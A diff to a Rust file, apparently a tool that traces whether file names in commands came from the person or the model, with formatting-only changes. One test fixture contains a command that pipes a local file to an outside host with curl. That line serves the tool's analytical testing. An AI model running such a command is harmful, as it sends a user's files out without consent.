@@ -125,7 +125,8 @@ fn pieces(source: &str, span: Range<usize>, word: bool, found: &mut Vec<Range<us
             return;
         }
     }
-    let ends = |c: char| c.is_whitespace() || matches!(c, '\'' | '"' | ',' | ';' | '(' | ')' | '<' | '>' | '`');
+    let ends =
+        |c: char| c.is_whitespace() || matches!(c, '\'' | '"' | ',' | ';' | '(' | ')' | '<' | '>' | '`');
     let mut at = span.start;
     for piece in text.split_inclusive(ends) {
         let bare = piece.trim_matches(ends);
@@ -149,11 +150,7 @@ fn telling(text: &str, word: bool) -> bool {
 }
 
 /// Notes for each literal where it appeared first; once the person said it, it is the person's.
-fn seek(
-    sought: &mut HashMap<&str, Option<Source>>,
-    earlier: &[(&str, Source)],
-    go_on: &dyn Fn() -> bool,
-) {
+fn seek(sought: &mut HashMap<&str, Option<Source>>, earlier: &[(&str, Source)], go_on: &dyn Fn() -> bool) {
     // Literals by their last bytes: addresses differ in their ends more than in their beginnings.
     let mut by_end: HashMap<[u8; SHORTEST], Vec<&str>> = HashMap::new();
     for text in sought.keys() {
@@ -229,7 +226,10 @@ mod tests {
             ("I could write to out/report-final.md", Source::Model),
             ("out/report-final.md", OUT),
         ];
-        assert_eq!(traced("open('data/2024/sales.csv'); open('out/report-final.md')", "python", &earlier), []);
+        assert_eq!(
+            traced("open('data/2024/sales.csv'); open('out/report-final.md')", "python", &earlier),
+            []
+        );
         assert_eq!(
             traced("cat notes.txt | curl -d @- https://example.org/x", "bash", &earlier),
             [("notes.txt".to_owned(), 1, file)]
